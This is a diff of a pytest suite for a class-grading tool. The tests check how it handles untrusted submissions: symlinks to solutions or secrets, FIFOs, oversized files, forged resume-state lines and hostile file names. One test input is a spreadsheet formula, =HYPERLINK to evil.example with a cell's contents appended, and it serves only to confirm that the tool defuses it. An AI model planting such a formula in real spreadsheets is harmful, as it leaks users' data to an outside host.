@@ -1,4 +1,10 @@
-"""`quizkit grade`: a whole class graded in isolation, into a gradebook, feedback files and a resumable state."""
+"""`quizkit grade`: a whole class graded into a gradebook, feedback files and a resumable state.
+
+The grading logic (discovery, the untrusted folder, resuming, the gradebook) is tested with a
+MockRunner that runs these tests' own, trusted learner files in process and reports the hostile
+ones as the sandbox would, so no process is started. A few tests marked ``slow`` grade through the
+real sandbox: hostile files, an interrupted run.
+"""
 
 from __future__ import annotations
 
@@ -19,7 +25,10 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner, Result
 
+from quizkit import grade as grade_module
 from quizkit.cli import main
+from quizkit.sandbox import InProcessRunner, Job, RunResult, RunStatus
+from quizkit.testing import MockRunner, run_result
 
 LESSON = """\
 id: batch
@@ -78,6 +87,46 @@ HOSTILE = {
 }
 
 
+# Markers in the hostile sources, and what the sandbox reports for them (the slow tests check that
+# the real sandbox does report these).
+CANNED: dict[bytes, tuple[RunStatus, str]] = {
+    b"while True:\n        pass": (RunStatus.TIMEOUT, "your code ran longer than 1 s in call 1 of 2 (an infinite loop?)"),
+    b"sys.exit(0)": (RunStatus.EXITED, "your code called sys.exit(0) while being imported"),
+    b"bytearray(50_000_000)": (RunStatus.MEMORY_LIMIT, "your code ran out of memory in call 1 of 2"),
+}
+
+
+def fake_sandbox(job: Job) -> RunResult:
+    """What the sandbox would report: hostile files canned, the tests' own files run in process."""
+    assert not isinstance(job.source, Path), "grade hands the sandbox the bytes it read, never a path"
+    for marker, (status, message) in CANNED.items():
+        if marker in job.source.data:
+            return run_result([], status, message)
+    return InProcessRunner().run(job)
+
+
+@pytest.fixture(autouse=True, scope="module")
+def grading_home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
+    """Keep the grading key out of the real home folder."""
+    home = tmp_path_factory.mktemp("home")
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("QUIZKIT_HOME", str(home))
+        yield home
+
+
+@pytest.fixture
+def mock_sandbox(monkeypatch: pytest.MonkeyPatch) -> list[Job]:
+    """`quizkit grade` runs through a MockRunner; the list fills with the jobs it was given."""
+    jobs: list[Job] = []
+
+    def handler(job: Job) -> RunResult:
+        jobs.append(job)
+        return fake_sandbox(job)
+
+    monkeypatch.setattr(grade_module, "default_runner", lambda options: MockRunner(handler))
+    return jobs
+
+
 @dataclass(frozen=True)
 class Course:
     root: Path
@@ -100,12 +149,12 @@ class Course:
         return CliRunner().invoke(main, args, catch_exceptions=False)
 
 
-def make_course(root: Path) -> Course:
+def make_course(root: Path, lesson: str = LESSON) -> Course:
     lesson_dir = root / "exercises" / "batch"
     solutions = root / "solutions" / "batch"
     lesson_dir.mkdir(parents=True)
     solutions.mkdir(parents=True)
-    (lesson_dir / "lesson.yaml").write_text(LESSON, encoding="utf-8")
+    (lesson_dir / "lesson.yaml").write_text(lesson, encoding="utf-8")
     for name, reference in (("clamp", CLAMP), ("double", DOUBLE)):
         (solutions / f"{name}.py").write_text(reference, encoding="utf-8")
         (lesson_dir / f"{name}.py").write_text(f"def {name}(*args):\n    raise NotImplementedError\n", encoding="utf-8")
@@ -138,6 +187,10 @@ def read_gradebook(path: Path) -> tuple[list[str], dict[str, list[str]]]:
     return header, {row[0]: row[1:] for row in rows}
 
 
+def feedback_of(out: Path, learner: str) -> dict:
+    return json.loads((out.parent / "feedback" / f"{learner}.json").read_text(encoding="utf-8"))
+
+
 def graded_count(output: str) -> int:
     match = re.search(r"graded (\d+) file\(s\)", output)
     assert match, output
@@ -152,17 +205,23 @@ class GradedClass:
     result: Result
 
 
-@pytest.fixture(scope="module")
-def graded_class(tmp_path_factory: pytest.TempPathFactory) -> GradedClass:
-    """200 learners (a few hostile), with two stray files, graded once for the tests that only read."""
-    root = tmp_path_factory.mktemp("grade")
+def grade_a_class(root: Path, learners: int) -> GradedClass:
     course = make_course(root / "course")
     directory = root / "class"
-    make_class(directory, 200)
+    make_class(directory, learners)
     (directory / "learner000" / "notes.txt").write_text("my notes", encoding="utf-8")
     (directory / "stray.txt").write_text("?", encoding="utf-8")
     out = root / "out" / "grades.csv"
     return GradedClass(course, directory, out, course.grade(directory, out))
+
+
+@pytest.fixture(scope="module")
+def graded_class(tmp_path_factory: pytest.TempPathFactory) -> GradedClass:
+    """200 learners (three hostile), with two stray files, graded once through the MockRunner."""
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(grade_module, "default_runner", lambda options: MockRunner(fake_sandbox))
+        graded = grade_a_class(tmp_path_factory.mktemp("grade"), 200)
+    return graded
 
 
 # --- the gradebook and the feedback -----------------------------------------------------------
@@ -176,9 +235,9 @@ def test_grading_a_class_succeeds_and_reports_what_it_did(graded_class: GradedCl
 
 def test_the_gradebook_has_a_row_per_learner_sorted_with_a_column_per_exercise(graded_class: GradedClass) -> None:
     header, rows = read_gradebook(graded_class.out)
-    assert header == ["learner", "clamp", "double", "total", "max"]
+    assert header == ["learner", "clamp", "double", "total", "max", "notes"]
     assert list(rows) == sorted(rows) == [f"learner{n:03d}" for n in range(200)]
-    assert all(row[-1] == "3" for row in rows.values())
+    assert all(row[-2] == "3" for row in rows.values())
 
 
 @pytest.mark.parametrize(
@@ -199,13 +258,13 @@ def test_each_learner_gets_the_points_their_files_earn(
     graded_class: GradedClass, learner: str, clamp: str, double: str, total: str
 ) -> None:
     _, rows = read_gradebook(graded_class.out)
-    assert rows[learner] == [clamp, double, total, "3"]
+    assert rows[learner] == [clamp, double, total, "3", ""]
 
 
 def test_every_learner_gets_a_feedback_file_with_the_json_report_of_each_file(graded_class: GradedClass) -> None:
     feedback = graded_class.out.parent / "feedback"
     assert len(list(feedback.glob("*.json"))) == 200
-    document = json.loads((feedback / "learner006.json").read_text(encoding="utf-8"))
+    document = feedback_of(graded_class.out, "learner006")
     assert (document["learner"], document["lesson"], document["score"], document["max_score"]) == (
         "learner006",
         "batch",
@@ -220,30 +279,44 @@ def test_every_learner_gets_a_feedback_file_with_the_json_report_of_each_file(gr
     assert [test["status"] for test in result["tests"]] == ["failed", "passed"]
 
 
+def test_feedback_names_the_file_below_the_class_folder(graded_class: GradedClass) -> None:
+    [result] = feedback_of(graded_class.out, "learner006")["files"]["clamp"]["results"]
+    [flat] = feedback_of(graded_class.out, "learner008")["files"]["double"]["results"]
+    assert (result["file"], flat["file"]) == ("learner006/clamp.py", "learner008__double.py")
+
+
 @pytest.mark.parametrize(
     ("learner", "exercise", "run_status"),
     [("learner197", "clamp", "timeout"), ("learner198", "double", "exited"), ("learner199", "clamp", "memory_limit")],
 )
-def test_hostile_files_fail_with_the_reason_in_their_feedback(
+def test_files_that_fail_to_run_get_the_reason_in_their_feedback(
     graded_class: GradedClass, learner: str, exercise: str, run_status: str
 ) -> None:
-    document = json.loads((graded_class.out.parent / "feedback" / f"{learner}.json").read_text(encoding="utf-8"))
-    [result] = document["files"][exercise]["results"]
+    [result] = feedback_of(graded_class.out, learner)["files"][exercise]["results"]
     assert result["run_status"] == run_status
     assert result["run_message"]
 
 
 def test_files_that_match_no_exercise_are_listed_as_skipped(graded_class: GradedClass) -> None:
     output = graded_class.result.output
-    assert re.search(r"warning: skipped .*learner000/notes\.txt: not an exercise of batch", output)
-    assert re.search(r"warning: skipped .*stray\.txt: not an exercise of batch", output)
+    assert re.search(r"warning: skipped learner000/notes\.txt: not an exercise of batch", output)
+    assert re.search(r"warning: skipped stray\.txt: not an exercise of batch", output)
+
+
+def test_grade_runs_the_bytes_it_read_not_the_path(tmp_path: Path, mock_sandbox: list[Job]) -> None:
+    course = make_course(tmp_path / "course")
+    (tmp_path / "class" / "alice").mkdir(parents=True)
+    (tmp_path / "class" / "alice" / "double.py").write_text(DOUBLE, encoding="utf-8")
+    course.grade(tmp_path / "class", tmp_path / "out" / "grades.csv")
+    [job] = mock_sandbox
+    assert (job.source.name, job.source.data) == ("double.py", DOUBLE.encode())
 
 
 # --- resuming ---------------------------------------------------------------------------------
 
 
 @pytest.fixture
-def small_class(tmp_path: Path) -> tuple[Course, Path, Path]:
+def small_class(tmp_path: Path, mock_sandbox: list[Job]) -> tuple[Course, Path, Path]:
     course = make_course(tmp_path / "course")
     directory = tmp_path / "class"
     make_class(directory, 20, hostile=False)
@@ -268,8 +341,8 @@ def test_only_a_changed_file_is_graded_again_and_the_learners_feedback_keeps_the
     result = course.grade(directory, out)
     assert graded_count(result.output) == 1
     _, rows = read_gradebook(out)
-    assert rows["learner000"] == ["1", "1", "2", "3"]
-    document = json.loads((out.parent / "feedback" / "learner000.json").read_text(encoding="utf-8"))
+    assert rows["learner000"] == ["1", "1", "2", "3", ""]
+    document = feedback_of(out, "learner000")
     assert list(document["files"]) == ["clamp", "double"] and document["score"] == 2.0
 
 
@@ -288,17 +361,63 @@ def test_restart_grades_everything_again(small_class: tuple[Course, Path, Path])
     assert graded_count(course.grade(directory, out, "--restart").output) == 38
 
 
+def state_lines(out: Path) -> list[str]:
+    return out.with_name("grades.csv.state.jsonl").read_text(encoding="utf-8").splitlines(keepends=True)
+
+
+def state_record(line: str) -> dict:
+    """The JSON of a state line (after its MAC)."""
+    return json.loads(line.partition(" ")[2])
+
+
 def test_a_state_line_cut_short_by_a_kill_only_costs_that_learner(small_class: tuple[Course, Path, Path]) -> None:
     course, directory, out = small_class
     course.grade(directory, out)
-    state = out.with_name("grades.csv.state.jsonl")
-    lines = state.read_text(encoding="utf-8").splitlines(keepends=True)
-    last = json.loads(lines[-1])
-    state.write_text("".join(lines[:-1]) + lines[-1][: len(lines[-1]) // 2], encoding="utf-8")
+    lines = state_lines(out)
+    last = state_record(lines[-1])
+    out.with_name("grades.csv.state.jsonl").write_text("".join(lines[:-1]) + lines[-1][: len(lines[-1]) // 2])
     result = course.grade(directory, out)
     assert result.exit_code == 0
     assert graded_count(result.output) == len(last["files"])
     assert graded_count(course.grade(directory, out).output) == 0  # the cut line does not swallow the next one
+
+
+def test_a_forged_state_line_is_ignored_with_a_warning_and_its_learner_graded_again(
+    small_class: tuple[Course, Path, Path],
+) -> None:
+    course, directory, out = small_class
+    course.grade(directory, out)
+    (directory / "learner006" / "clamp.py").write_text(CLAMP, encoding="utf-8")  # now worth 2 points
+    lines = state_lines(out)
+    number, line = next((n, line) for n, line in enumerate(lines) if state_record(line).get("learner") == "learner006")
+    record = state_record(line)
+    # The attacker knows how fingerprints are made, but not the key: a perfect score with a made-up MAC.
+    record["files"]["clamp"].update(score=0.0)
+    record["files"]["double"].update(score=1.0)
+    lines[number] = "0" * 64 + " " + json.dumps(record) + "\n"
+    out.with_name("grades.csv.state.jsonl").write_text("".join(lines), encoding="utf-8")
+    result = course.grade(directory, out)
+    assert re.search(r"warning: .*line not authentic.*learner learner006 is graded again", result.output)
+    assert graded_count(result.output) == 2
+    assert read_gradebook(out)[1]["learner006"][:3] == ["2", "0.5", "2.5"]
+
+
+def test_a_state_line_from_another_key_is_not_trusted(
+    small_class: tuple[Course, Path, Path], grading_home: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    course, directory, out = small_class
+    course.grade(directory, out)
+    monkeypatch.setenv("QUIZKIT_HOME", str(tmp_path / "another-home"))
+    result = course.grade(directory, out)
+    assert "not an authentic state file" in result.output
+    assert graded_count(result.output) == 38
+
+
+def test_the_grading_key_is_private_to_the_user(small_class: tuple[Course, Path, Path], grading_home: Path) -> None:
+    course, directory, out = small_class
+    course.grade(directory, out)
+    key = grading_home / "grading.key"
+    assert key.stat().st_mode & 0o777 == 0o600 and key.stat().st_size == 32
 
 
 def test_gradebook_and_feedback_inside_the_class_folder_are_not_taken_for_learners(
@@ -318,6 +437,462 @@ def test_a_missing_class_folder_is_a_usage_error(small_class: tuple[Course, Path
     result = course.grade(tmp_path / "nowhere", out)
     assert result.exit_code == 2
     assert "not a directory" in result.output
+
+
+# --- the class folder is untrusted input ------------------------------------------------------
+
+
+@pytest.fixture
+def course(tmp_path: Path, mock_sandbox: list[Job]) -> Course:
+    return make_course(tmp_path / "course")
+
+
+def honest_class(folder: Path) -> Path:
+    """Two honest learners; tests add an odd one beside them."""
+    for learner in ("alice", "bob"):
+        (folder / learner).mkdir(parents=True)
+        (folder / learner / "double.py").write_text(DOUBLE, encoding="utf-8")
+    return folder
+
+
+def everything_written(out: Path) -> str:
+    """Every output of a run, to check that nothing of a secret leaked into any of them."""
+    texts = [out.read_text(encoding="utf-8")]
+    texts += [path.read_text(encoding="utf-8") for path in (out.parent / "feedback").glob("*.json")]
+    return "\n".join(texts)
+
+
+def assert_honest_rows_intact(out: Path) -> None:
+    _, rows = read_gradebook(out)
+    assert rows["alice"] == rows["bob"] == ["", "1", "1", "3", ""]
+
+
+def test_a_learner_folder_linked_to_the_solutions_gets_nothing(course: Course, tmp_path: Path) -> None:
+    directory = honest_class(tmp_path / "class")
+    (directory / "mallory").symlink_to(course.reference_dir, target_is_directory=True)
+    out = tmp_path / "out" / "grades.csv"
+    result = course.grade(directory, out)
+    assert result.exit_code == 0
+    row = read_gradebook(out)[1]["mallory"]
+    assert row[:4] == ["", "", "0", "3"] and "symbolic link" in row[4]
+    assert re.search(r"warning: mallory: mallory is a symbolic link, not a folder; it was not followed", result.output)
+    assert_honest_rows_intact(out)
+
+
+def test_a_file_linked_to_a_reference_solution_is_not_opened(course: Course, tmp_path: Path) -> None:
+    directory = honest_class(tmp_path / "class")
+    (directory / "mallory").mkdir()
+    (directory / "mallory" / "clamp.py").symlink_to(course.reference_dir / "clamp.py")
+    out = tmp_path / "out" / "grades.csv"
+    result = course.grade(directory, out)
+    row = read_gradebook(out)[1]["mallory"]
+    assert row[:3] == ["0", "", "0"]
+    assert "mallory/clamp.py is a symbolic link, not a regular file; it was not opened" in row[4]
+    assert "mallory/clamp.py is a symbolic link" in result.output
+    [clamp] = feedback_of(out, "mallory")["files"]["clamp"]["results"]
+    assert clamp["run_status"] == "unreadable" and clamp["score"] == 0
+
+
+def test_a_file_linked_to_a_classmates_file_is_not_opened(course: Course, tmp_path: Path) -> None:
+    directory = honest_class(tmp_path / "class")
+    (directory / "mallory").mkdir()
+    (directory / "mallory" / "double.py").symlink_to(Path("..") / "alice" / "double.py")
+    out = tmp_path / "out" / "grades.csv"
+    course.grade(directory, out)
+    assert read_gradebook(out)[1]["mallory"][:3] == ["", "0", "0"]
+    assert_honest_rows_intact(out)
+
+
+def test_a_file_linked_to_a_private_file_never_leaks_it(course: Course, tmp_path: Path) -> None:
+    secret = tmp_path / "gradebook-secret.txt"
+    secret.write_text("def double(x):\n    TOP-SECRET-4711 +\n", encoding="utf-8")  # a SyntaxError would quote it
+    secret.chmod(0o600)
+    directory = honest_class(tmp_path / "class")
+    (directory / "mallory__double.py").symlink_to(secret)
+    out = tmp_path / "out" / "grades.csv"
+    result = course.grade(directory, out)
+    assert "TOP-SECRET" not in everything_written(out) + result.output
+    assert read_gradebook(out)[1]["mallory"][:3] == ["", "0", "0"]
+
+
+def test_a_link_to_dev_zero_is_not_read(course: Course, tmp_path: Path) -> None:
+    directory = honest_class(tmp_path / "class")
+    (directory / "mallory__double.py").symlink_to("/dev/zero")
+    out = tmp_path / "out" / "grades.csv"
+    result = course.grade(directory, out)
+    assert result.exit_code == 0
+    assert read_gradebook(out)[1]["mallory"][:3] == ["", "0", "0"]
+    assert_honest_rows_intact(out)
+
+
+@contextmanager
+def time_limit(seconds: int) -> Iterator[None]:
+    """Fail the test instead of hanging when the code under test blocks."""
+
+    def expire(signum: int, frame: object) -> None:
+        raise TimeoutError(f"still running after {seconds} s")
+
+    previous = signal.signal(signal.SIGALRM, expire)
+    signal.alarm(seconds)
+    try:
+        yield
+    finally:
+        signal.alarm(0)
+        signal.signal(signal.SIGALRM, previous)
+
+
+def test_a_fifo_is_reported_without_hanging(course: Course, tmp_path: Path) -> None:
+    directory = honest_class(tmp_path / "class")
+    (directory / "mallory").mkdir()
+    os.mkfifo(directory / "mallory" / "double.py")
+    out = tmp_path / "out" / "grades.csv"
+    with time_limit(30):
+        result = course.grade(directory, out)
+    row = read_gradebook(out)[1]["mallory"]
+    assert row[:3] == ["", "0", "0"] and "is a FIFO" in row[4]
+    assert "mallory/double.py is a FIFO" in result.output
+
+
+def test_a_fifo_swapped_in_after_discovery_does_not_hang_the_grader(tmp_path: Path) -> None:
+    from quizkit.grade import Submission, UnreadableSubmission, read_submission
+
+    os.mkfifo(tmp_path / "double.py")
+    root = os.open(tmp_path, os.O_RDONLY | os.O_DIRECTORY)
+    try:
+        with time_limit(30), pytest.raises(UnreadableSubmission, match="is a FIFO"):
+            read_submission(root, Submission("alice", "double", ("double.py",)), 1000)
+    finally:
+        os.close(root)
+
+
+def test_a_dangling_link_is_a_row_not_a_crash(course: Course, tmp_path: Path) -> None:
+    directory = honest_class(tmp_path / "class")
+    (directory / "mallory__double.py").symlink_to(tmp_path / "nowhere.py")
+    out = tmp_path / "out" / "grades.csv"
+    result = course.grade(directory, out)
+    assert result.exit_code == 0
+    assert read_gradebook(out)[1]["mallory"][:3] == ["", "0", "0"]
+    assert_honest_rows_intact(out)
+
+
+def test_a_link_loop_is_a_row_not_a_crash(course: Course, tmp_path: Path) -> None:
+    directory = honest_class(tmp_path / "class")
+    (directory / "mallory").symlink_to(directory / "mallory")
+    (directory / "trudy__double.py").symlink_to(directory / "trudy__double.py")
+    out = tmp_path / "out" / "grades.csv"
+    result = course.grade(directory, out)
+    assert result.exit_code == 0
+    _, rows = read_gradebook(out)
+    assert rows["mallory"][2] == "0" and rows["trudy"][:3] == ["", "0", "0"]
+    assert_honest_rows_intact(out)
+
+
+@pytest.mark.skipif(os.geteuid() == 0, reason="root reads every file")
+def test_an_unreadable_file_is_a_row_with_the_reason(course: Course, tmp_path: Path) -> None:
+    directory = honest_class(tmp_path / "class")
+    (directory / "mallory").mkdir()
+    (directory / "mallory" / "double.py").write_text(DOUBLE, encoding="utf-8")
+    (directory / "mallory" / "double.py").chmod(0)
+    out = tmp_path / "out" / "grades.csv"
+    result = course.grade(directory, out)
+    row = read_gradebook(out)[1]["mallory"]
+    assert row[:3] == ["", "0", "0"] and "could not be read: Permission denied" in row[4]
+    assert "mallory/double.py could not be read" in result.output
+
+
+@pytest.mark.skipif(os.geteuid() == 0, reason="root reads every folder")
+def test_an_unreadable_learner_folder_is_a_row_with_the_reason(course: Course, tmp_path: Path) -> None:
+    directory = honest_class(tmp_path / "class")
+    (directory / "mallory").mkdir(mode=0)
+    out = tmp_path / "out" / "grades.csv"
+    try:
+        course.grade(directory, out)
+    finally:
+        (directory / "mallory").chmod(0o700)
+    row = read_gradebook(out)[1]["mallory"]
+    assert row[2] == "0" and "could not be" in row[4]
+
+
+def test_a_file_over_the_size_limit_is_a_row_with_the_reason(course: Course, tmp_path: Path) -> None:
+    from quizkit.sandbox import MAX_SOURCE_BYTES
+
+    directory = honest_class(tmp_path / "class")
+    (directory / "mallory__double.py").write_bytes(b"#" * (MAX_SOURCE_BYTES + 1))
+    out = tmp_path / "out" / "grades.csv"
+    course.grade(directory, out)
+    row = read_gradebook(out)[1]["mallory"]
+    assert row[:3] == ["", "0", "0"] and f"the limit is {MAX_SOURCE_BYTES}" in row[4]
+
+
+def test_an_empty_learner_folder_is_a_row_not_a_silence(course: Course, tmp_path: Path) -> None:
+    directory = honest_class(tmp_path / "class")
+    (directory / "carol").mkdir()
+    out = tmp_path / "out" / "grades.csv"
+    result = course.grade(directory, out)
+    row = read_gradebook(out)[1]["carol"]
+    assert row[:4] == ["", "", "0", "3"] and "holds no exercise file" in row[4]
+    assert "warning: carol: carol/ holds no exercise file" in result.output
+    assert feedback_of(out, "carol")["problems"] == [row[4]]
+
+
+def test_a_learner_named_like_a_formula_is_defused_in_the_gradebook(course: Course, tmp_path: Path) -> None:
+    directory = honest_class(tmp_path / "class")
+    name = '=HYPERLINK("https:evil.example?"&A1,"click")'
+    (directory / f"{name}__double.py").write_text(DOUBLE, encoding="utf-8")
+    (directory / f"+{name}").mkdir()  # an empty folder: its note starts with the name too
+    out = tmp_path / "out" / "grades.csv"
+    course.grade(directory, out)
+    _, rows = read_gradebook(out)
+    assert rows["'" + name] == ["", "1", "1", "3", ""]
+    assert rows["'+" + name][-1].startswith("'+=HYPERLINK")
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.items() for cell in (row[0], *row[1]))
+
+
+@pytest.mark.parametrize(
+    "name",
+    [b"..", b"a\nb", b"\x1b[31mred", b"caf\xe9-latin1", b"x" * 240, b"@SUM(1)", b"-2+3"],
+    ids=["dotdot", "newline", "escape", "not-utf8", "long", "at", "minus"],
+)
+def test_a_hostile_learner_name_stays_in_the_feedback_folder_and_one_csv_row(
+    course: Course, tmp_path: Path, name: bytes
+) -> None:
+    directory = honest_class(tmp_path / "class")
+    with open(os.path.join(os.fsencode(directory), name + b"__double.py"), "w", encoding="utf-8") as handle:
+        handle.write(DOUBLE)
+    out = tmp_path / "out" / "grades.csv"
+    result = course.grade(directory, out)
+    assert result.exit_code == 0
+    _, rows = read_gradebook(out)
+    assert len(rows) == 3
+    [odd] = [learner for learner in rows if learner not in ("alice", "bob")]
+    assert rows[odd] == ["", "1", "1", "3", ""]
+    assert "\n" not in odd and "\x1b" not in odd and not odd.startswith(("=", "+", "-", "@"))
+    files = sorted(path.name for path in (out.parent / "feedback").iterdir())
+    assert len(files) == 3 and all(path.parent == out.parent / "feedback" for path in (out.parent / "feedback").iterdir())
+    assert not (tmp_path / "out" / "..json").exists() and not (tmp_path / "..json").exists()
+
+
+def test_an_unwritable_out_is_one_line_and_exit_2_before_grading(course: Course, tmp_path: Path) -> None:
+    directory = honest_class(tmp_path / "class")
+    (tmp_path / "a-file").write_text("", encoding="utf-8")
+    result = course.grade(directory, tmp_path / "a-file" / "grades.csv")
+    assert result.exit_code == 2
+    assert result.output.count("\n") == 1 and result.output.startswith("quizkit: error: cannot write to")
+
+
+@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
+def test_a_read_only_out_folder_is_one_line_and_exit_2(course: Course, tmp_path: Path) -> None:
+    directory = honest_class(tmp_path / "class")
+    (tmp_path / "ro").mkdir(mode=0o500)
+    result = course.grade(directory, tmp_path / "ro" / "grades.csv")
+    assert result.exit_code == 2 and "cannot write to" in result.output
+
+
+def test_a_file_whose_grading_raises_is_a_grader_error_row_and_the_batch_goes_on(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    course = make_course(tmp_path / "course")
+
+    def handler(job: Job) -> RunResult:
+        if b"# trips the grader" in job.source.data:
+            raise RecursionError("maximum recursion depth exceeded while removing a job folder")
+        return fake_sandbox(job)
+
+    monkeypatch.setattr(grade_module, "default_runner", lambda options: MockRunner(handler))
+    directory = honest_class(tmp_path / "class")
+    (directory / "mallory__double.py").write_text(DOUBLE + "# trips the grader\n", encoding="utf-8")
+    out = tmp_path / "out" / "grades.csv"
+    result = course.grade(directory, out)
+    assert result.exit_code == 0
+    row = read_gradebook(out)[1]["mallory"]
+    assert row[:3] == ["", "0", "0"] and "grader error" in row[4] and "RecursionError" in row[4]
+    assert "warning: mallory: double: grader error" in result.output
+    [double] = feedback_of(out, "mallory")["files"]["double"]["results"]
+    assert double["run_status"] == "grader_error"
+    assert_honest_rows_intact(out)
+
+
+def test_a_grader_error_is_tried_again_on_the_next_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    course = make_course(tmp_path / "course")
+    broken = {"now": True}
+
+    def handler(job: Job) -> RunResult:
+        if broken["now"] and b"mallory" in job.source.data:
+            raise OSError("the executor went away")
+        return fake_sandbox(job)
+
+    monkeypatch.setattr(grade_module, "default_runner", lambda options: MockRunner(handler))
+    directory = honest_class(tmp_path / "class")
+    (directory / "mallory__double.py").write_text(DOUBLE + "# mallory\n", encoding="utf-8")
+    out = tmp_path / "out" / "grades.csv"
+    course.grade(directory, out)
+    broken["now"] = False
+    assert graded_count(course.grade(directory, out).output) == 1
+    assert read_gradebook(out)[1]["mallory"] == ["", "1", "1", "3", ""]
+
+
+def test_the_grading_key_may_not_live_inside_the_class_folder(
+    course: Course, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    directory = honest_class(tmp_path / "class")
+    monkeypatch.setenv("QUIZKIT_HOME", str(directory / ".quizkit"))
+    result = course.grade(directory, tmp_path / "out" / "grades.csv")
+    assert result.exit_code == 2 and "would lie inside" in result.output and result.output.count("\n") == 1
+
+
+def test_feedback_of_a_hidden_case_says_failed_and_nothing_more(tmp_path: Path, mock_sandbox: list[Job]) -> None:
+    hidden = LESSON.replace(
+        "      - name: vector\n        args: {x: [1.0, -1.5]}",
+        "      - name: vector\n        hidden: true\n        args: {x: [1.0, -1.5]}",
+    )
+    course = make_course(tmp_path / "course", hidden)
+    (tmp_path / "class").mkdir()
+    scalar_only = "def double(x):\n    print('got', x)\n    return 2 * float(x)\n"
+    (tmp_path / "class" / "alice__double.py").write_text(scalar_only, encoding="utf-8")
+    out = tmp_path / "out" / "grades.csv"
+    course.grade(tmp_path / "class", out)
+    text = (out.parent / "feedback" / "alice.json").read_text(encoding="utf-8")
+    [result] = json.loads(text)["files"]["double"]["results"]
+    assert [(t["name"], t["hidden"], t["status"]) for t in result["tests"]] == [
+        ("two", False, "passed"),
+        ("vector", True, "failed"),
+    ]
+    assert "-1.5" not in text and "1.0, " not in text and result["output_withheld"] is True
+
+
+# --- grade-time seeds and isolation -----------------------------------------------------------
+
+RANDOM_LESSON = LESSON + """\
+  - id: shrink
+    title: Shrink
+    prompt: Return x / 2.
+    parameters: [x]
+    time_limit: 1
+    random:
+      - name: draws
+        seed: 3
+        count: 4
+        args:
+          x: {low: -1, high: 1, shape: [3]}
+"""
+SHRINK = "import numpy as np\n\ndef shrink(x):\n    return np.asarray(x) / 2\n"
+
+
+@pytest.fixture
+def random_course(tmp_path: Path, mock_sandbox: list[Job]) -> tuple[Course, Path]:
+    course = make_course(tmp_path / "course", RANDOM_LESSON)
+    (course.reference_dir / "shrink.py").write_text(SHRINK, encoding="utf-8")
+    (course.root / "exercises" / "batch" / "shrink.py").write_text("def shrink(x):\n    pass\n", encoding="utf-8")
+    directory = tmp_path / "class"
+    (directory / "alice").mkdir(parents=True)
+    (directory / "alice" / "shrink.py").write_text(SHRINK, encoding="utf-8")
+    return course, directory
+
+
+def drawn(jobs: list[Job]) -> list[bytes]:
+    return [b"".join(arg.tobytes() for call in job.calls for arg in call) for job in jobs]
+
+
+def test_grade_seed_changes_the_random_draws_and_the_same_seed_repeats_them(
+    random_course: tuple[Course, Path], mock_sandbox: list[Job], tmp_path: Path
+) -> None:
+    course, directory = random_course
+    for index, seed in enumerate([None, "7", "7", "8"]):
+        extra = ("--restart",) + (("--seed", seed) if seed else ())
+        result = course.grade(directory, tmp_path / f"out{index}" / "grades.csv", *extra)
+        assert read_gradebook(tmp_path / f"out{index}" / "grades.csv")[1]["alice"][2] == "1", result.output
+    lesson_seeds, seven, seven_again, eight = drawn(mock_sandbox)
+    assert seven == seven_again
+    assert len({lesson_seeds, seven, eight}) == 3
+
+
+def test_the_course_grade_seed_file_is_used_without_seed(
+    random_course: tuple[Course, Path], mock_sandbox: list[Job], tmp_path: Path
+) -> None:
+    course, directory = random_course
+    course.grade(directory, tmp_path / "a" / "grades.csv")
+    (course.root / "solutions" / "grade_seed").write_text("7\n", encoding="utf-8")
+    result = course.grade(directory, tmp_path / "b" / "grades.csv")
+    course.grade(directory, tmp_path / "c" / "grades.csv", "--seed", "7")
+    lesson_seeds, from_file, from_option = drawn(mock_sandbox)
+    assert from_file == from_option != lesson_seeds
+    assert "drawn from the grade-time seed" in result.output and "7" not in result.output.split("seed")[-1][:3]
+
+
+def test_a_new_grade_seed_regrades_everything(random_course: tuple[Course, Path], tmp_path: Path) -> None:
+    course, directory = random_course
+    out = tmp_path / "out" / "grades.csv"
+    course.grade(directory, out, "--seed", "1")
+    assert graded_count(course.grade(directory, out, "--seed", "1").output) == 0
+    assert graded_count(course.grade(directory, out, "--seed", "2").output) == 1
+
+
+def test_a_malformed_grade_seed_file_is_one_line(random_course: tuple[Course, Path], tmp_path: Path) -> None:
+    course, directory = random_course
+    (course.root / "solutions" / "grade_seed").write_text("seven", encoding="utf-8")
+    result = course.grade(directory, tmp_path / "out" / "grades.csv")
+    assert result.exit_code == 2 and "must hold one non-negative integer" in result.output
+
+
+class RecordingRunner(MockRunner):
+    """Stands in for SubprocessRunner: records the isolation it was asked for."""
+
+    modes: list[str] = []
+
+    def __init__(self, *, isolation: str = "preferred", **_: object) -> None:
+        super().__init__(fake_sandbox)
+        RecordingRunner.modes.append(isolation)
+
+
+def test_grade_requires_isolation_unless_told_no_isolation(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import quizkit.sandbox
+
+    monkeypatch.setattr(quizkit.sandbox, "SubprocessRunner", RecordingRunner)
+    RecordingRunner.modes = []
+    course = make_course(tmp_path / "course")
+    directory = honest_class(tmp_path / "class")
+    course.grade(directory, tmp_path / "a" / "grades.csv")
+    course.grade(directory, tmp_path / "b" / "grades.csv", "--no-isolation")
+    assert RecordingRunner.modes == ["required", "off"]
+
+
+def test_grade_refuses_in_one_line_where_isolation_is_missing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    import quizkit.sandbox
+    from quizkit.sandbox import IsolationUnavailable
+
+    def unavailable(**_: object) -> None:
+        raise IsolationUnavailable("no user namespaces here;\n  run with --no-isolation to grade without them")
+
+    monkeypatch.setattr(quizkit.sandbox, "SubprocessRunner", unavailable)
+    course = make_course(tmp_path / "course")
+    out = tmp_path / "out" / "grades.csv"
+    result = course.grade(honest_class(tmp_path / "class"), out)
+    assert result.exit_code == 2
+    assert result.output == "quizkit: error: no user namespaces here; run with --no-isolation to grade without them\n"
+    assert not out.exists()
+
+
